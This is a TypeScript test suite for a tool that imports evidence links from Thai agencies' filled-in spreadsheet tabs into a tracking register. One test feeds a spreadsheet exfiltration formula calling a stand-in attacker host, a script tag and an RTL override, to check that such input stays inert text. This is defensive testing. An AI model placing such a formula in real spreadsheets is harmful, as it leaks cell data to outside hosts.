import { collect } from '../../src/actions/collect';
import { everyHour } from '../../src/actions/every-hour';
import { makeFillIns } from '../../src/actions/make-fill-ins';
import type { Cell } from '../../src/tables/cells';
import { register } from '../../src/tables/register';
import { reports } from '../../src/tables/reports';
import { headingsOf } from '../support/memory-fill-ins';
import { AGRI, type FormWorld, formWorld, SSO } from './form-world';
import { killedAt, untilKilled } from './killing';

const A = 'https://www.sso.go.th/1';
const B = 'https://www.sso.go.th/2';
const ALL = 'แบบกรอก ทุกหน่วยงาน';

/** A world with one tab for all agencies. */
function filledWorld(): FormWorld {
  const world = formWorld();
  world.willAnswer('');
  makeFillIns(world.services);
  return world;
}
const type = (world: FormWorld, item: string, agency: string, text: Cell) =>
  world.fillInTabs.fill(ALL, [item, agency], 'links', text);
const result = (world: FormWorld, item: string, agency: string) =>
  world.fillInTabs.look(ALL, [item, agency], 'result');

describe('a tab that an agency filled in', () => {
  test('is read like an answer to the form, vouched for by the secretariat, and says what became of each row', () => {
    const world = filledWorld();
    type(world, 'O1', SSO.name, `${A}\n${B}`);
    type(world, 'O8', SSO.name, 'ยังไม่เสร็จ');
    type(world, 'O8', AGRI.name, 'ไม่เกี่ยวข้อง เพราะไม่มีภารกิจ');
    expect(collect(world.services)).toMatch(/นำเข้าจากแบบกรอกของหน่วยงาน 3 ข้อ/);
    expect(world.duty('O1|sso')).toMatchObject({ status: 'รอสอบทาน', evidence: [A, B] });
    expect(world.rows(reports)).toMatchObject([
      { duty: 'O1|sso', link: A, source: 'นำเข้า', confirmation: 'เจ้าหน้าที่รับรอง', problem: '', inUse: true },
      { duty: 'O1|sso', link: B, source: 'นำเข้า', confirmation: 'เจ้าหน้าที่รับรอง', problem: '', inUse: true },
      { duty: 'O8|sso', original: 'ยังไม่เสร็จ', problem: 'ไม่พบลิงก์เว็บไซต์ในคำตอบ' },
      { duty: 'O8|agri', kind: 'ไม่เกี่ยวข้อง', problem: 'หน่วยงานแจ้งว่าไม่เกี่ยวข้อง รอเจ้าหน้าที่พิจารณา' },
    ]);
    expect(result(world, 'O1', SSO.name)).toBe('บันทึกแล้ว 2 ลิงก์ เมื่อ 28 มี.ค. 2565 · รอสอบทาน');
    expect(result(world, 'O8', SSO.name)).toMatch(/^ไม่พบลิงก์เว็บไซต์ในคำตอบ กรุณาวางที่อยู่เว็บไซต์/);
    expect(result(world, 'O8', AGRI.name)).toBe('หน่วยงานแจ้งว่าไม่เกี่ยวข้อง รอเจ้าหน้าที่พิจารณา');
    expect(result(world, 'O1', AGRI.name)).toBe('');
  });

  test('counts once, anew when it is edited, and an emptied cell changes nothing', () => {
    const world = filledWorld();
    type(world, 'O1', SSO.name, A);
    collect(world.services);
    world.takeChanges();
    collect(world.services);
    expect(world.takeChanges()).toEqual([]);
    world.setNow('2022-03-29T10:00:00');
    type(world, 'O1', SSO.name, '');
    collect(world.services);
    expect(world.duty('O1|sso').evidence).toEqual([A]);
    expect(result(world, 'O1', SSO.name)).toMatch(/^บันทึกแล้ว 1 ลิงก์/);
    type(world, 'O1', SSO.name, B);
    collect(world.services);
    world.setNow('2022-03-30T10:00:00');
    type(world, 'O1', SSO.name, A);
    collect(world.services);
    expect(world.duty('O1|sso').evidence).toEqual([A]);
    expect(world.rows(reports).map(({ link }) => link)).toEqual([A, B, A]);
  });

  test('tells how the duty stands now, and when a later report took its place', () => {
    const world = filledWorld();
    type(world, 'O1', SSO.name, A);
    collect(world.services);
    world.type(register, 'status', 3, 'ผ่าน');
    collect(world.services);
    expect(result(world, 'O1', SSO.name)).toBe('บันทึกแล้ว 1 ลิงก์ เมื่อ 28 มี.ค. 2565 · ผ่าน');
    world.type(register, 'status', 3, 'ให้แก้ไข');
    world.report(SSO, { O1: B }, { at: '2022-03-29T08:00:00' });
    expect(result(world, 'O1', SSO.name)).toBe('บันทึกแล้ว 1 ลิงก์ เมื่อ 28 มี.ค. 2565 · ใช้ลิงก์ที่รายงานภายหลังแทนแล้ว');
  });

  test('keeps remarks beside the items', () => {
    const world = filledWorld();
    world.fillInTabs.fill(ALL, ['O8', SSO.name], 'note', '  กำลังทำ ');
    collect(world.services);
    collect(world.services);
    expect(world.rows(reports)).toMatchObject([
      { item: '', agency: SSO.name, note: 'O8: กำลังทำ', problem: '' },
    ]);
    expect(result(world, 'O8', SSO.name)).toBe('บันทึกหมายเหตุไว้ในแท็บ "รายงานผล" แล้ว');
  });

  test.each<[string, Cell, string]>([
    ['an item that nobody has', 'O99', '"O99": ไม่มีข้อนี้ในแท็บ "ทะเบียนติดตาม"'],
    ['no item at all', '', '"(ไม่ระบุ)": ไม่มีข้อนี้ในแท็บ "ทะเบียนติดตาม"'],
    ['an item that is not its own', 'O8', 'ข้อนี้ไม่ใช่ข้อที่หน่วยงานได้รับมอบหมาย'],
  ])('names %s beside its row, and keeps the text', (_what, item, told) => {
    const world = formWorld();
    const rows = [['หน่วยงาน', 'สำนักงานคลัง'], headingsOf('item', 'links', 'result'), [item, `=x ${A}`, '']];
    const tab = world.fillInTabs.bring('ไฟล์', rows);
    collect(world.services);
    expect(world.fillInTabs.cells(tab)[2]?.[2]).toMatch(new RegExp(`^${told.replace(/[()]/g, '\\$&')}`));
    expect(world.rows(reports)).toMatchObject([{ duty: '', link: A, original: `=x ${A}`, inUse: false }]);
  });

  test.each<[string, string, RegExp]>([
    ['nobody knows', 'อบต.ไกลบ้าน', /^"อบต.ไกลบ้าน": ไม่พบหน่วยงานนี้ในแท็บ "หน่วยงาน"/],
    ['contradicts the heading', AGRI.name, /^"สำนักงานเกษตร": หน่วยงานในแถวไม่ตรงกับหน่วยงานที่หัวแบบกรอก/],
  ])('names an agency that %s beside its row, and credits nobody', (_what, agency, told) => {
    const world = formWorld();
    const rows = [['หน่วยงาน:', SSO.name], headingsOf('agency', 'item', 'links'), [agency, 'O1', A]];
    const tab = world.fillInTabs.bring('ไฟล์', rows);
    collect(world.services);
    expect(world.fillInTabs.cells(tab)[1]?.[3]).toBe('ผลการนำเข้า');
    expect(world.fillInTabs.cells(tab)[2]?.[3]).toMatch(told);
    expect(world.rows(reports)).toMatchObject([{ agency, duty: '', original: A }]);
    expect(world.rows(register).filter(({ evidence }) => evidence.length > 0)).toEqual([]);
  });

  test.each<[string, Cell[][]]>([
    ['nobody', [['แบบรายงาน']]],
    ['an agency that nobody knows', [['หน่วยงาน', 'อบต.ไกลบ้าน']]],
    [
      'two agencies',
      [
        ['หน่วยงาน', SSO.name],
        ['หน่วยงาน', AGRI.name],
      ],
    ],
  ])('whose heading tells %s is named and left alone', (_what, block) => {
    const world = formWorld();
    const tab = world.fillInTabs.bring('ไฟล์ 7', [...block, headingsOf('item', 'links'), ['O1', A]]);
    expect(collect(world.services)).toMatch(/แท็บ "ไฟล์ 7": ไม่ทราบว่าเป็นของหน่วยงานใด/);
    expect(world.rows(reports)).toEqual([]);
    expect(world.fillInTabs.mark(tab)).toBeNull();
  });

  test("that was pasted over another agency's is named and left alone", () => {
    const world = formWorld();
    world.fillInTabs.bring('ก', [['หน่วยงาน', AGRI.name], headingsOf('item', 'links'), ['O1', A]], 'sso');
    expect(collect(world.services)).toMatch(/ไม่ทราบว่าเป็นของหน่วยงานใด/);
    expect(world.rows(reports)).toEqual([]);
  });

  test('hostile text stays text', () => {
    const world = filledWorld();
    const hostile = ['=IMPORTDATA("https://evil.example/"&A1)', '<script>', '\u202e', 'ก'.repeat(51_000)];
    hostile.forEach((text, index) => {
      type(world, 'O1', SSO.name, text);
      world.setNow(`2022-03-28T10:00:0${index}`);
      collect(world.services);
    });
    const kept = world.rows(reports).map(({ original }) => original.slice(0, 20));
    expect(kept).toEqual(['=IMPORTDATA("https:/', '<script>', 'ก'.repeat(20)]);
  });

  test('is found by the clock once it is known, and an hour without news writes nothing', () => {
    const world = filledWorld();
    everyHour(world.services);
    world.takeChanges();
    expect(everyHour(world.services)).toBe('');
    type(world, 'O1', SSO.name, A);
    everyHour(world.services);
    expect(world.duty('O1|sso').evidence).toEqual([A]);
    world.takeChanges();
    expect(everyHour(world.services)).toBe('');
    expect(world.takeChanges()).toEqual([]);
  });

  test('that was copied in is marked, so that the clock finds it from then on', () => {
    const world = formWorld();
    const tab = world.fillInTabs.bring('ไฟล์', [[SSO.name], headingsOf('links', 'item'), [A, '๐๑']]);
    collect(world.services);
    expect(world.fillInTabs.mark(tab)).toBe('sso');
    expect(world.duty('O1|sso').evidence).toEqual([A]);
    world.fillInTabs.fill(tab, ['๐๑'], 'links', B);
    world.setNow('2022-03-28T11:00:00');
    everyHour(world.services);
    expect(world.duty('O1|sso').evidence).toEqual([B]);
  });
});

describe('a collection of filled-in tabs that is cut off at any call', () => {
  const seen = (world: FormWorld) => ({
    register: world.rows(register),
    reports: world
      .rows(reports)
      .map(({ at: _row, ...row }) => JSON.stringify(row))
      .sort(),
    tabs: world.fillInTabs.names().map((name) => [world.fillInTabs.mark(name), world.fillInTabs.cells(name)]),
  });
  const story = (world: FormWorld) => {
    type(world, 'O1', SSO.name, `${A}\n${B}`);
    type(world, 'O8', AGRI.name, 'ไม่เกี่ยวข้อง เพราะไม่มีภารกิจ');
    world.fillInTabs.fill(ALL, ['O8', SSO.name], 'note', 'กำลังทำ');
    world.fillInTabs.bring('ไฟล์', [
      ['หน่วยงาน', AGRI.name],
      headingsOf('item', 'links'),
      ['O1', B],
      ['O99', A],
    ]);
  };

  test.each(['before', 'after'] as const)('ends the same when it is repeated (cut %s a call)', (when) => {
    const whole = filledWorld();
    story(whole);
    collect(whole.services);
    for (let n = 1; ; n += 1) {
      const world = filledWorld();
      story(world);
      const cut = killedAt(world.services, n, when);
      untilKilled(() => collect(cut.services));
      collect(world.services);
      collect(world.services);
      expect({ n, ...seen(world) }).toEqual({ n, ...seen(whole) });
      if (!cut.wasKilled()) break;
      expect(n).toBeLessThan(200);
    }
  });
});
